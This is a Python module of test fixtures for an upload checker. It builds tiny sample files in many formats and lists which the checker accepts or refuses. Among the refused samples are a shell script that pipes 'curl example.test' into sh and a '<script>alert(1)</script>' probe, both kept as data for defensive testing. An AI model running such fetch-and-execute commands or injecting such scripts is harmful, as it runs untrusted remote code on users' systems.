"""Sample files for upload tests: documents that must be accepted, and things that must not."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib


def pdf_document(
    *objects: bytes, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
) -> bytes:
    """A PDF file with `objects` as objects 1, 2, … (1 is the catalogue), a correct
    cross-reference table and trailer, ending with %%EOF."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def pdf_stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


def pdf_page(
    content: bytes = b"BT /F1 12 Tf 72 720 Td (Child safety policy) Tj ET",
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    extra: tuple[bytes, ...] = (),
    trailer: bytes = b"",
) -> bytes:
    """A one-page PDF showing `content`; `extra` objects are numbered from 6."""
    return pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> " + resources + b">> " + page + b">>",
        pdf_stream(b"", content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
        trailer=trailer,
    )


def pdf_bytes(text: str = "Child safety policy") -> bytes:
    """A small, text-only one-page PDF that the upload check accepts."""
    words = text.replace("\\", "").replace("(", "").replace(")", "").encode("latin-1", "replace")
    return pdf_page(b"BT /F1 12 Tf 72 720 Td (" + words + b") Tj ET")


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00\x43\x00"
        + bytes(64)
    )


def gif_bytes() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"


def webp_bytes() -> bytes:
    return b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x000\x01\x00\x9d\x01\x2a\x01\x00\x01\x00"


def zip_bytes(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": "<w:document/>",
        }
    )


def tar_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("policy.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buffer.getvalue()


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(48)


def pe_bytes() -> bytes:
    dos_header = (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x40\x00\x00\x00"
    )
    return dos_header + b"PE\x00\x00\x64\x86" + bytes(18)


def macho_bytes() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(16)


ACCEPTED = {
    "pdf": (pdf_bytes(), "policy.pdf", "application/pdf"),
    "plain text": (
        "Trust & safety policy, effective 1 March — “quoted”.\n".encode(),
        "policy.txt",
        "text/plain",
    ),
    "markdown": (b"# Policy\n\n* Hash matching on all uploads\n", "policy.md", "text/markdown"),
    "csv": (b"quarter,reports\n2026-Q1,12\n2026-Q2,15\n", "reports.csv", "text/csv"),
    "json": (b'{"reports": [12, 15], "source": "case system"}\n', "reports.json", "application/json"),
}

REFUSED = {
    "png": (png_bytes(), "scan.pdf", "This file is an image (PNG), not a document."),
    "jpeg": (jpeg_bytes(), "scan.txt", "This file is an image (JPEG), not a document."),
    "gif": (gif_bytes(), "scan.txt", "This file is an image (GIF), not a document."),
    "webp": (webp_bytes(), "scan.txt", "This file is an image (WEBP), not a document."),
    "zip": (zip_bytes({"policy.txt": "hello"}), "policy.pdf", "This file is a compressed archive (ZIP)"),
    "docx": (docx_bytes(), "policy.pdf", "This file is an office document (DOCX), which is not accepted."),
    "gzip": (gzip.compress(b"hello"), "policy.txt", "This file is a compressed archive (gzip)"),
    "tar": (tar_bytes(), "policy.txt", "This file is a compressed archive (TAR)"),
    "elf": (elf_bytes(), "report.pdf", "This file is an executable program (ELF), not a document."),
    "pe": (pe_bytes(), "report.pdf", "This file is an executable program (Windows PE), not a document."),
    "mach-o": (macho_bytes(), "report.pdf", "This file is an executable program (Mach-O), not a document."),
    "shebang script": (b"#!/bin/sh\ncurl example.test | sh\n", "notes.txt", "an executable script"),
    "svg": (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>\n',
        "diagram.txt",
        "This file is an SVG image, not a document.",
    ),
    "html": (
        b"<!DOCTYPE html>\n<html><body>Policy</body></html>\n",
        "policy.md",
        "This file is an HTML page",
    ),
    "bare script": (b"\n  <script>alert(1)</script>\n", "notes.md", "This file is an HTML page"),
    "text with a NUL": (b"quarter,reports\n2026-Q1\x00,12\n", "reports.csv", "binary control character 0x00"),
    "invalid utf-8": ("Café policy".encode("latin-1"), "policy.txt", "not valid UTF-8 text"),
    "utf-16": ("Policy".encode("utf-16"), "policy.txt", "UTF-16 or UTF-32 text. Save it as UTF-8"),
    "mp3": (b"ID3\x03\x00\x00\x00\x00\x00\x0f" + bytes(32), "talk.txt", "an audio file (MP3)"),
    "mp4": (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(16), "clip.pdf", "a video (MP4)"),
}
